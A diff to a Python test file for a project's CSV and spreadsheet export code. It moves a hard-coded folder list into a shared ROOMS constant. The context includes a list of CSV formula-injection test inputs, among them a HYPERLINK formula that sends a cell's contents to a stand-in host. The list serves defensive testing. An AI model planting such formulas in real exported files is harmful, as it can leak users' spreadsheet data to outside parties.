@@ -10,6 +10,7 @@ import pytest
 
 from database.confinement.room import PROJECT
 from database.spreadsheet import CsvTable, SheetTable, csv_file, csv_text
+from tests.rooms import ROOMS
 
 HOSTILE = [
     '=HYPERLINK("http://a.b/?"&A1,"x")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "\ufeff=1",
@@ -74,7 +75,7 @@ def test_there_is_one_writer_of_tables():
     makes = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|xlsxwriter|to_csv\(|to_excel\(")
     found = {
         path.relative_to(PROJECT).as_posix()
-        for floor in ("access", "database", "gazetteer", "grid", "layers", "mapserver")
+        for floor in ROOMS
         for path in (PROJECT / floor).rglob("*.py")
         if makes.search(path.read_text(encoding="utf-8"))
     }
